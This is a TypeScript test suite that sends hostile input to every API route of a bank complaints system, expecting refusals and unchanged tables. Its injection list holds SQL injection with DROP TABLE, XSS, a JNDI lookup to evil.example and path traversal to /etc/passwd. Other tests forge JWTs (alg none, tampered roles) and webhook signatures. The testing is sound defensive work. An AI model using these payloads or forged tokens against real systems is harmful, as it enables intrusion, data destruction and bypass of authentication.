import { randomBytes } from 'node:crypto';
import { SignJWT } from 'jose';
import { ROLES, Role } from '@complaints/contracts';
import { formatTicketNumber } from '@complaints/domain';
import { describeRoutes, RouteDeclaration, signWebhook } from '@complaints/platform';
import { createTestIssuer } from '@complaints/testing';
import { ALL_SERVICES, ServiceUnderTest, startInProcess } from './services-in-process';

jest.setTimeout(300_000);

/**
 * Hostile input over every route of every service: each case must get a clear 4xx in
 * problem+json, never a 5xx, and must leave every table of the service as it was.
 */

const UUID = '00000000-0000-4000-8000-000000000000';
const WEB_SECRET = randomBytes(32);
const WECHAT_SECRET = randomBytes(32);

/** Headers of a correctly signed webhook request; `overrides` forge parts of it. */
const signed = (body: string, overrides: { secret?: Buffer; timestamp?: number; nonce?: string; signature?: string; signedBody?: string } = {}) => {
  const timestamp = overrides.timestamp ?? Math.floor(Date.now() / 1000);
  const nonce = overrides.nonce ?? randomBytes(12).toString('hex');
  return {
    'x-signature-timestamp': String(timestamp),
    'x-signature-nonce': nonce,
    'x-signature': overrides.signature ?? signWebhook(overrides.secret ?? WEB_SECRET, timestamp, nonce, overrides.signedBody ?? body),
  };
};
const TICKET = formatTicketNumber('20260101', 1);

/** A valid body for each route that takes one; a new body route without a sample fails the suite. */
const SAMPLE_BODIES: Record<string, { body: Record<string, unknown>; required: string[]; freeText: string[] }> = {
  'POST /v1/complaints': {
    body: {
      channel: 'web',
      channelReference: 'web-form-1',
      complainant: { customerId: 'C-1001', name: '王小明', phone: '13800138000', email: 'wang@example.com', idNumber: '11010519491231002X' },
      description: '信用卡年费被重复收取。',
      productHint: 'credit card',
      occurredAt: '2026-11-01T08:00:00+08:00',
      amountInDispute: { amountMinor: 30000, currency: 'CNY' },
      preferredReplyChannel: 'sms',
      language: 'zh-CN',
    },
    required: ['channel', 'complainant', 'description', 'preferredReplyChannel', 'amountInDispute.amountMinor', 'amountInDispute.currency'],
    freeText: ['channelReference', 'complainant.customerId', 'complainant.name', 'description', 'productHint'],
  },
  'POST /v1/complaints/:ticketNumber/supplements': {
    body: { text: '补充：扣款时间为11月20日。', attachments: [{ reference: `fs:${'b'.repeat(64)}`, sha256: 'b'.repeat(64), sizeBytes: 10, mediaType: 'image/png' }] },
    required: [],
    freeText: ['text'],
  },
  'POST /v1/complaints/:ticketNumber/amendments': {
    body: { phone: '13800000000', email: 'new@example.com', preferredReplyChannel: 'email', language: 'zh-CN', description: '更正：金额为300元。' },
    required: [],
    freeText: ['description'],
  },
  'POST /v1/complaints/:ticketNumber/withdrawal': {
    body: { reason: '问题已解决' },
    required: [],
    freeText: ['reason'],
  },
  'PUT /v1/staff/complaints/:complaintId/regulator-deadline': {
    body: { deadline: '2099-12-20', reference: '金监消保函〔2026〕88号', reason: '监管同意延期，客户补充的流水需要核实' },
    required: ['deadline', 'reference', 'reason'],
    freeText: ['reference', 'reason'],
  },
  'POST /v1/archive/checkpoints': { body: {}, required: [], freeText: [] },
  'POST /v1/archive/complaints/:complaintId/legal-holds': { body: { reason: '客户已起诉，保留档案', reference: 'HCCL/2026/117' }, required: ['reason', 'reference'], freeText: ['reason', 'reference'] },
  'POST /v1/archive/complaints/:complaintId/legal-holds/:holdId/release': { body: { reason: '诉讼已结案' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/archive/retention/purge': { body: { asOf: '2026-11-01T00:00:00Z', reference: 'RET-RUN/2026-11' }, required: ['asOf'], freeText: ['reference'] },
  'POST /v1/triage/classify': {
    body: { text: '信用卡年费被重复收取。', taxonomy: 'cn-jrt0169', amountMinor: 30000, currency: 'CNY', customerAge: 70, channel: 'web' },
    required: ['text'],
    freeText: ['text'],
  },
  'POST /v1/triage/complaints/:complaintId/retriage': {
    body: { product: 'B03', cause: 'C07', severity: 'medium', reason: '年费问题属银行卡定价收费' },
    required: ['product', 'cause', 'reason'],
    freeText: ['reason'],
  },
  'POST /v1/triage/complaints/:complaintId/clock': {
    body: { action: 'extend', toPeriod: 'complex', reason: '需调取对方银行日志' },
    required: ['action', 'reason'],
    freeText: ['reason'],
  },
  'POST /v1/cases/:caseId/assignment': { body: { investigator: 'staff-0042', reason: '熟悉跨行转账业务' }, required: [], freeText: ['reason'] },
  'PUT /v1/cases/:caseId/involved-staff': { body: { staffIds: ['staff-0007'] }, required: ['staffIds'], freeText: [] },
  'POST /v1/cases/:caseId/declared-interest': { body: { reason: '投诉人是我的亲属' }, required: ['reason'], freeText: ['reason'] },
  'PUT /v1/cases/:caseId/findings': {
    body: { facts: ['转账因收款行系统故障滞留两天'], liability: 'bank', rootCause: { code: 'system', detail: '清算接口超时未告警' } },
    required: ['facts', 'liability', 'rootCause', 'rootCause.code', 'rootCause.detail'],
    freeText: ['rootCause.detail'],
  },
  'POST /v1/cases/:caseId/resolution': {
    body: {
      outcome: 'upheld',
      explanation: '系统重复收费，予以退还。',
      actions: ['correction', 'refund'],
      remedy: { type: 'fee-refund', amount: { amountMinor: 30000, currency: 'CNY' } },
    },
    required: ['outcome', 'explanation', 'actions', 'remedy.type', 'remedy.amount', 'remedy.amount.amountMinor', 'remedy.amount.currency'],
    freeText: ['explanation'],
  },
  'POST /v1/cases/:caseId/resolution/decision': { body: { decision: 'reject', reason: '请补充对方行的回复' }, required: ['decision'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/escalation': { body: { reason: '客户为老年人且情绪激动' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/review': { body: { reason: '客户不认可处理结果' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/reopening': { body: { reason: '发现新的交易记录' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/closure': { body: { reason: '回访客户表示满意' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/extensions': { body: { toPeriod: 'complex', reason: '需对方行配合调查' }, required: ['toPeriod', 'reason'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/extensions/:requestId/decision': { body: { decision: 'approve', reason: '案情复杂' }, required: ['decision'], freeText: ['reason'] },
  'POST /v1/cases/:caseId/tasks': {
    body: { department: 'technology', owner: 'staff-0101', request: '请核实清算系统日志', dueBy: '2030-01-01T00:00:00Z' },
    required: ['department', 'request', 'dueBy'],
    freeText: ['request'],
  },
  'POST /v1/cases/:caseId/tasks/:taskId/result': { body: { result: '对方行接口超时，款项已退回' }, required: ['result'], freeText: ['result'] },
  'POST /v1/cases/:caseId/evidence': {
    body: { kind: 'call-recording', sourceSystem: 'call-recorder', reference: 'REC-2026-0001', sha256: 'a'.repeat(64), description: '客服通话录音', contentType: 'audio/wav' },
    required: ['kind', 'sourceSystem', 'reference', 'sha256', 'description'],
    freeText: ['sourceSystem', 'reference', 'description', 'contentType'],
  },
  // Raw bytes, with what they are in the query: every hostile body lacks the query and is refused for it.
  'POST /v1/cases/:caseId/evidence/files': { body: { file: 'bytes' }, required: [], freeText: ['file'] },
  'POST /v1/cases/:caseId/contacts': {
    body: { direction: 'outbound', channel: 'phone', outcome: 'reached', summary: '已向客户解释处理进度', at: '2026-11-20T10:00:00+08:00' },
    required: ['direction', 'channel', 'outcome', 'summary'],
    freeText: ['summary'],
  },
  'POST /v1/cases/:caseId/notes': { body: { body: '客户要求周末回电' }, required: ['body'], freeText: ['body'] },
  'POST /v1/improvement-actions': {
    body: { sourceCaseId: UUID, department: 'hotline', measure: '开展老年客户服务培训', dueBy: '2030-01-01T00:00:00Z' },
    required: ['sourceCaseId', 'department', 'measure', 'dueBy'],
    freeText: ['measure'],
  },
  'POST /v1/improvement-actions/:actionId/status': { body: { status: 'in-progress', note: '已排期培训' }, required: ['status'], freeText: ['note'] },
  'POST /v1/improvement-actions/:actionId/cases': { body: { caseId: UUID }, required: ['caseId'], freeText: [] },
  // The token in the path is the survey link's; ':token' itself names no survey, so valid bodies are a 404.
  'POST /v1/surveys/:token/answers': { body: { score: 2, comment: '等了三周才回电话' }, required: ['score'], freeText: ['comment'] },
  'POST /v1/remedies/:remedyId/approvals': { body: {}, required: [], freeText: [] },
  'POST /v1/remedies/:remedyId/rejection': { body: { reason: '已达年度补偿上限' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/remedies/:remedyId/reversal': { body: { reason: '重复补偿' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/remedies/:remedyId/reversal/approvals': { body: {}, required: [], freeText: [] },
  'POST /v1/remedies/:remedyId/reversal/rejection': { body: { reason: '客户已自行退回' }, required: ['reason'], freeText: ['reason'] },
  'POST /v1/remedies/interest-quotes': {
    body: { principal: { amountMinor: 5_000_000, currency: 'CNY' }, from: '2026-10-01', to: '2026-10-15' },
    required: ['principal', 'from', 'to', 'principal.amountMinor', 'principal.currency'],
    freeText: [],
  },
  'PUT /v1/investigators': {
    body: { staffId: 'staff-0042', department: 'operations', skills: ['B05'], lineManager: 'staff-0001', capacity: 10, active: true },
    required: ['staffId', 'department', 'skills', 'capacity', 'active'],
    freeText: [],
  },
};

/** The web form's own payload, as the website back end posts it to its signed webhook. */
const WEB_FORM = {
  body: {
    formId: 'WEB-1',
    customer: { customerNo: 'C-1001', name: '王小明', mobile: '13800138000', email: 'wang@example.com' },
    product: '信用卡',
    account: '6222 0212 3456 7890',
    content: '信用卡年费被重复收取。',
    amount: '300.00',
    currency: 'CNY',
    replyVia: 'sms',
    lang: 'zh-CN',
  } as Record<string, unknown>,
  required: ['formId', 'content'],
  freeText: ['content', 'product', 'customer.name', 'customer.customerNo'],
};

const INJECTIONS = [
  "' OR '1'='1' --",
  "'; DROP TABLE complaints; --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '\u200bweb',
  'web\u202e',
  '＜ｓｃｒｉｐｔ＞',
  '😀',
];
const UNSAFE_TEXT = ['bad\u0000byte', 'bell\u0007', 'lone \ud800 surrogate', 'esc\u001b[31m'];
const UNICODE_TEXT = ['零宽\u200b空格', '\u202eتم الدفع\u202c', '投诉😡😡', '全角，标点！？', 'e\u0301\u0301 combining'];

interface Attempt {
  what: string;
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
}

const leaves = (value: unknown, prefix = ''): [string, unknown][] =>
  value !== null && typeof value === 'object' && !Array.isArray(value)
    ? Object.entries(value).flatMap(([k, v]) => leaves(v, prefix ? `${prefix}.${k}` : k))
    : [[prefix, value]];

const withPath = (body: Record<string, unknown>, path: string, value: unknown, remove = false): Record<string, unknown> => {
  const copy = structuredClone(body);
  const keys = path.split('.');
  let target = copy as Record<string, unknown>;
  for (const k of keys.slice(0, -1)) target = target[k] as Record<string, unknown>;
  if (remove) delete target[keys[keys.length - 1]];
  else target[keys[keys.length - 1]] = value;
  return copy;
};

const fill = (path: string, ticket = TICKET, id = UUID) => path.replace(':ticketNumber', encodeURIComponent(ticket)).replace(/:[A-Za-z]+Id\b/g, encodeURIComponent(id));

function bodyAttempts(route: RouteDeclaration, sample: (typeof SAMPLE_BODIES)[string]): Attempt[] {
  const at = (what: string, body: string, headers: Record<string, string> = {}): Attempt => ({ what, method: route.method, path: fill(route.path), body, headers });
  const json = (what: string, value: unknown) => at(what, JSON.stringify(value));
  const attempts: Attempt[] = [
    at('truncated JSON', JSON.stringify(sample.body).slice(0, 40)),
    at('trailing comma', '{"a": 1,}'),
    at('single quotes', "{'channel': 'web'}"),
    at('NaN literal', '{"amountMinor": NaN}'),
    at('comment in JSON', '{"channel": "web" /* x */}'),
    at('empty body', ''),
    at('not JSON at all', 'channel=web&name=x'),
    json('an array body', [sample.body]),
    json('a string body', 'complaint'),
    json('a number body', 42),
    json('null body', null),
    json('array in place of an object', { ...sample.body, [Object.keys(sample.body).find((k) => typeof sample.body[k] === 'object')!]: [] }),
    at('huge body (300 kB)', JSON.stringify({ ...sample.body, padding: 'x'.repeat(300_000) })),
    at('deeply nested (5,000 levels)', '['.repeat(5000) + ']'.repeat(5000)),
    at('deeply nested object (40 levels)', JSON.stringify(Array.from({ length: 40 }).reduce<unknown>((inner) => ({ a: inner }), 1))),
    at('JSON sent as text/plain', JSON.stringify(sample.body), { 'content-type': 'text/plain' }),
    at('unsupported charset', JSON.stringify(sample.body), { 'content-type': 'application/json; charset=ibm-1047' }),
    at('JSON declared as UTF-16', JSON.stringify(sample.body), { 'content-type': 'application/json; charset=utf-16' }),
    at('a form', 'channel=web&name=x', { 'content-type': 'application/x-www-form-urlencoded' }),
    at('corrupt gzip body', 'notgzip', { 'content-encoding': 'gzip' }),
    at('corrupt deflate body', 'notgzip', { 'content-encoding': 'deflate' }),
    at('unsupported content encoding', JSON.stringify(sample.body), { 'content-encoding': 'compress' }),
    json('unknown top-level field', { ...sample.body, isAdmin: true }),
    at('__proto__ pollution', JSON.stringify(sample.body).replace(/^\{/, '{"__proto__":{"isAdmin":true},')),
    json('constructor pollution', { ...sample.body, constructor: { prototype: { isAdmin: true } } }),
  ];
  for (const field of sample.required) {
    attempts.push(json(`missing ${field}`, withPath(sample.body, field, undefined, true)));
    attempts.push(json(`${field} null`, withPath(sample.body, field, null)));
  }
  for (const [field, value] of leaves(sample.body)) {
    const wrong: unknown[] = typeof value === 'string' ? [12345, true, ['x'], { x: 1 }] : typeof value === 'number' ? ['1', 1.5, -1, 1e300, true] : [];
    for (const w of wrong) attempts.push(json(`${field} as ${JSON.stringify(w)}`, withPath(sample.body, field, w)));
    if (typeof value === 'string') {
      for (const u of UNSAFE_TEXT) attempts.push(json(`${field} with ${JSON.stringify(u)}`, withPath(sample.body, field, u)));
      attempts.push(json(`${field} far too long`, withPath(sample.body, field, '长'.repeat(20_000))));
      if (!sample.freeText.includes(field)) {
        for (const inj of INJECTIONS) attempts.push(json(`${field} = ${JSON.stringify(inj)}`, withPath(sample.body, field, inj)));
      }
    }
    if (value !== null && typeof value === 'object') attempts.push(json(`${field} as an array`, withPath(sample.body, field, [value])));
  }
  for (const obj of leaves(sample.body).map(([f]) => f.split('.').slice(0, -1).join('.')).filter(Boolean)) {
    attempts.push(json(`unknown field inside ${obj}`, withPath(sample.body, `${obj}.injected`, 'x')));
  }
  return attempts;
}

function paramAttempts(route: RouteDeclaration): Attempt[] {
  const attempts: Attempt[] = [];
  const hasTicket = route.path.includes(':ticketNumber');
  const hasId = /:[A-Za-z]+Id\b/.test(route.path);
  const bad = [...INJECTIONS, 'CMP-20260101-00000001-9', '１２３', `${UUID}'`, '%00', 'null'];
  for (const value of bad) {
    if (hasTicket) attempts.push({ what: `ticket = ${JSON.stringify(value)}`, method: route.method, path: fill(route.path, value) });
    if (hasId) attempts.push({ what: `id = ${JSON.stringify(value)}`, method: route.method, path: fill(route.path, TICKET, value) });
  }
  if (route.method === 'GET' && route.path.endsWith('/cases') || route.path.endsWith('/remedies') || route.path.endsWith('/notifications')) {
    for (const value of [...INJECTIONS, '%00']) attempts.push({ what: `query complaintId = ${JSON.stringify(value)}`, method: 'GET', path: `${route.path}?complaintId=${encodeURIComponent(value)}` });
    attempts.push({ what: 'query complaintId given twice', method: 'GET', path: `${route.path}?complaintId=${UUID}&complaintId=${UUID}` });
    attempts.push({ what: 'query complaintId as an object', method: 'GET', path: `${route.path}?complaintId[a]=1` });
    attempts.push({ what: 'misspelt query parameter', method: 'GET', path: `${route.path}?complaintid=${UUID}` });
    attempts.push({ what: 'unknown query parameter', method: 'GET', path: `${route.path}?complaintId=${UUID}&limit=1000000` });
  }
  return attempts;
}

describe('hostile input over every route of every service', () => {
  let tried = 0;
  const tally: Record<string, number> = {};

  afterAll(() => {
    process.stdout.write(
      `hostile-input: ${tried} cases tried, all answered 4xx in problem+json with nothing stored (${Object.entries(tally)
        .map(([k, n]) => `${k}: ${n}`)
        .join(', ')})\n`,
    );
  });

  describe.each(ALL_SERVICES.map((d) => [d.name, d] as const))('%s', (name, definition) => {
    let service: ServiceUnderTest;
    let routes: RouteDeclaration[];
    const tokenFor = async (route: RouteDeclaration) => {
      if (route.access?.kind !== 'roles') return null;
      const role = route.access.roles[0] as Role;
      return service.issuer.token(role, { channel: role === 'channel-adapter' ? 'web' : undefined, subject: 'C-1001' });
    };

    beforeAll(async () => {
      service = await startInProcess(definition, {
        WEBHOOK_SECRETS: `web:${WEB_SECRET.toString('base64')},wechat:${WECHAT_SECRET.toString('base64')}`,
      });
      routes = describeRoutes(service.running.app).filter((r) => r.access?.kind === 'roles');
    });
    afterAll(() => service?.stop());

    const send = async (attempt: Attempt, token: string | null) => {
      const res = await fetch(`${service.baseUrl}${attempt.path}`, {
        method: attempt.method,
        headers: {
          'content-type': 'application/json',
          ...(token ? { authorization: `Bearer ${token}` } : {}),
          ...attempt.headers,
        },
        body: attempt.method === 'GET' ? undefined : (attempt.body ?? '{}'),
      });
      const text = await res.text();
      return { status: res.status, type: res.headers.get('content-type') ?? '', text };
    };

    const expectRefused = async (family: string, attempts: Attempt[], token: string | null, allowed: number[] = [], spendsNonces = false) => {
      const counts = async () => {
        const all = await service.rowCounts();
        // A correctly signed request spends its nonce even when its body is then refused.
        if (spendsNonces) delete all.webhook_nonces;
        return all;
      };
      const before = await counts();
      const wrong: string[] = [];
      for (const attempt of attempts) {
        const res = await send(attempt, token);
        tried += 1;
        tally[family] = (tally[family] ?? 0) + 1;
        const clear = res.status >= 400 && res.status < 500 && res.type.startsWith('application/problem+json') && JSON.parse(res.text).status === res.status;
        if (!clear && !allowed.includes(res.status)) wrong.push(`${attempt.method} ${attempt.path.slice(0, 80)} [${attempt.what}] -> ${res.status} ${res.text.slice(0, 160)}`);
      }
      expect(wrong).toEqual([]);
      expect(await counts()).toEqual(before);
    };

    it('refuses missing, expired, foreign, forged and malformed tokens with 401', async () => {
      const foreign = await createTestIssuer('foreign');
      for (const route of routes) {
        const role = (route.access as { roles: Role[] }).roles[0];
        const valid = await service.issuer.token(role, { channel: 'web' });
        const [h, p] = valid.split('.');
        const payload = JSON.parse(Buffer.from(p, 'base64url').toString());
        const tampered = `${h}.${Buffer.from(JSON.stringify({ ...payload, roles: [...ROLES] })).toString('base64url')}.${valid.split('.')[2]}`;
        const unsigned = `${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${p}.`;
        const hs256 = await new SignJWT(payload).setProtectedHeader({ alg: 'HS256' }).sign(new TextEncoder().encode('a-guessed-shared-secret-of-32-bytes!'));
        const tokens: [string, string | null, Record<string, string>][] = [
          ['no token', null, {}],
          ['expired', await service.issuer.token(role, { channel: 'web', expiresIn: -3600 }), {}],
          ['foreign issuer key', await foreign.token(role, { channel: 'web', issuer: service.issuer.issuer }), {}],
          ['wrong audience', await service.issuer.token(role, { channel: 'web', audience: 'another-api' }), {}],
          ['wrong issuer', await service.issuer.token(role, { channel: 'web', issuer: 'urn:someone-else' }), {}],
          ['tampered roles', tampered, {}],
          ['alg none', unsigned, {}],
          ['HS256 with a guessed secret', hs256, {}],
          ['garbage bearer', 'not-a-token', {}],
          ['basic auth', null, { authorization: 'Basic YWRtaW46YWRtaW4=' }],
          ['empty bearer', null, { authorization: 'Bearer ' }],
        ];
        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
        const attempts = tokens.map(([what, token, headers]) => ({
          what,
          method: route.method,
          path: fill(route.path),
          body: sample ? JSON.stringify(sample.body) : undefined,
          headers: token ? { ...headers, authorization: `Bearer ${token}` } : headers,
        }));
        await expectRefused('tokens', attempts, null);
      }
    });

    it('refuses hostile path and query parameters', async () => {
      for (const route of routes) {
        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
        const attempts = paramAttempts(route).map((a) => ({ ...a, body: sample ? JSON.stringify(sample.body) : undefined }));
        // 404: a well-formed id that names nothing is a clear answer too.
        await expectRefused('parameters', attempts, await tokenFor(route), []);
      }
    });

    it('names the path or query parameter that is not a UUID', async () => {
      const named: string[] = [];
      const unnamed: string[] = [];
      for (const route of routes) {
        const params = [...route.path.matchAll(/:([A-Za-z]+Id)\b/g)].map((m) => `path:${m[1]}`);
        const query = route.method === 'GET' && /\/(cases|remedies|notifications)$/.test(route.path) ? ['query:complaintId'] : [];
        if (!params.length && !query.length) continue;
        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
        const path = fill(route.path, TICKET, 'not-a-uuid') + (query.length ? '?complaintId=not-a-uuid' : '');
        const res = await send({ what: 'not a UUID', method: route.method, path, body: sample ? JSON.stringify(sample.body) : undefined }, await tokenFor(route));
        // An id that is not a UUID by design (none today) may answer 404; a 400 must say which parameter.
        if (res.status !== 400) continue;
        const errors = ((JSON.parse(res.text) as { errors?: { path: string }[] }).errors ?? []).map((e) => e.path);
        (errors.some((e) => [...params, ...query].includes(e)) ? named : unnamed).push(`${route.method} ${route.path} -> ${res.text.slice(0, 200)}`);
      }
      expect(unnamed).toEqual([]);
      if (routes.some((r) => /:[A-Za-z]+Id\b/.test(r.path))) expect(named.length).toBeGreaterThan(0);
    });

    it('refuses hostile bodies on every route that takes one', async () => {
      const bodyRoutes = routes.filter((r) => r.method !== 'GET');
      for (const route of bodyRoutes) {
        const sample = SAMPLE_BODIES[`${route.method} ${route.path}`];
        expect({ route: `${route.method} ${route.path}`, hasSample: !!sample }).toEqual({ route: `${route.method} ${route.path}`, hasSample: true });
        await expectRefused('bodies', bodyAttempts(route, sample), await tokenFor(route));
      }
      if (name === 'intake') {
        const route = routes.find((r) => r.method === 'POST' && r.path === '/v1/complaints')!;
        const headerAttempts = [...INJECTIONS, 'k'.repeat(200), 'a b'].map((key) => ({
          what: `Idempotency-Key ${JSON.stringify(key)}`,
          method: 'POST',
          path: route.path,
          body: JSON.stringify(SAMPLE_BODIES['POST /v1/complaints'].body),
          headers: { 'idempotency-key': encodeURIComponent(key) === key ? key : encodeURIComponent(key) },
        }));
        await expectRefused('headers', headerAttempts, await tokenFor(route));
      }
    });

    if (name === 'intake') {
      it('refuses forged, stale, replayed and unsigned webhooks with 401, and hostile signed bodies with 400', async () => {
        const webhooks = describeRoutes(service.running.app).filter((r) => r.access?.kind === 'signed-webhook');
        expect(webhooks.map((r) => `${r.method} ${r.path}`).sort()).toEqual(['GET /v1/channels/:channel/inbound', 'POST /v1/channels/:channel/inbound']);
        const body = JSON.stringify(WEB_FORM.body);
        const path = '/v1/channels/web/inbound';
        const now = Math.floor(Date.now() / 1000);
        const replayed = signed(body);
        const accepted = await send({ what: 'genuine', method: 'POST', path, body, headers: replayed }, null);
        expect(accepted.status).toBe(201);
        tried += 1;
        tally['webhook signatures'] = 1;

        const investigator = await service.issuer.token('investigator');
        const forged: Attempt[] = ([
          { what: 'replay of an accepted request', headers: replayed },
          { what: 'no signature headers', headers: {} },
          { what: 'signed with a guessed secret', headers: signed(body, { secret: randomBytes(32) }) },
          { what: "signed with another channel's secret", headers: signed(body, { secret: WECHAT_SECRET }) },
          { what: 'body changed after signing', headers: signed(body, { signedBody: body.replace('王小明', '李四') }) },
          { what: 'signed request for a channel nobody serves', headers: signed(body) },
          { what: 'timestamp an hour old', headers: signed(body, { timestamp: now - 3600 }) },
          { what: 'timestamp an hour ahead', headers: signed(body, { timestamp: now + 3600 }) },
          { what: 'signature truncated', headers: { ...signed(body), 'x-signature': signed(body)['x-signature'].slice(0, 32) } },
          { what: 'signature in base64', headers: { ...signed(body), 'x-signature': Buffer.from('x'.repeat(32)).toString('base64') } },
          { what: 'nonce too short', headers: signed(body, { nonce: 'abc' }) },
          { what: 'timestamp not a number', headers: { ...signed(body), 'x-signature-timestamp': 'yesterday' } },
          { what: 'a bearer token instead of a signature', headers: { authorization: `Bearer ${investigator}` } },
        ] as { what: string; headers: Record<string, string> }[]).map((a) => ({
          ...a,
          method: 'POST',
          path: a.what.includes('nobody serves') ? '/v1/channels/fax/inbound' : path,
          body,
        }));
        forged.push({ what: 'a channel without a secret', method: 'POST', path: '/v1/channels/mobile-app/inbound', body, headers: signed(body) });
        await expectRefused('webhook signatures', forged, null);

        // Correctly signed but hostile bodies: the signature proves the sender, not the content.
        // A channel's payload may carry fields its adapter does not read, so unknown fields are not refused here.
        const route = webhooks.find((r) => r.method === 'POST')!;
        const hostile = bodyAttempts({ ...route, path }, WEB_FORM)
          // A number is a fine amount; the channel limit is 10 MB, tried below.
          .filter((a) => !/^unknown field|^unknown top-level field|^amount as 12345$|^huge body/.test(a.what))
          .map((a) => ({ ...a, headers: { ...signed(a.body ?? ''), ...a.headers } }));
        const huge = JSON.stringify({ ...WEB_FORM.body, content: '长'.repeat(4_000_000) });
        hostile.push({ what: 'huge body (12 MB)', method: 'POST', path, body: huge, headers: signed(huge) });
        await expectRefused('signed hostile bodies', hostile, null, [], true);
      });

      it('keeps injection and Unicode edge cases in free text as inert text, byte for byte', async () => {
        const sample = SAMPLE_BODIES['POST /v1/complaints'];
        const token = await service.issuer.token('channel-adapter', { channel: 'web' });
        const investigator = await service.issuer.token('investigator');
        let stored = 0;
        for (const text of [...INJECTIONS, ...UNICODE_TEXT]) {
          const body = withPath(withPath(sample.body, 'description', `投诉：${text}`), 'complainant.name', text);
          const res = await fetch(`${service.baseUrl}/v1/complaints`, {
            method: 'POST',
            headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
            body: JSON.stringify(body),
          });
          expect(res.status).toBe(201);
          const { complaintId } = (await res.json()) as { complaintId: string };
          const view = await fetch(`${service.baseUrl}/v1/staff/complaints/${complaintId}`, { headers: { authorization: `Bearer ${investigator}` } });
          const shown = (await view.json()) as { description: string; complainant: { name: string } };
          expect({ description: shown.description, name: shown.complainant.name }).toEqual({ description: `投诉：${text}`, name: text });
          stored += 1;
        }
        tried += stored;
        tally['free text kept inert'] = stored;
      });
    }
  });
});
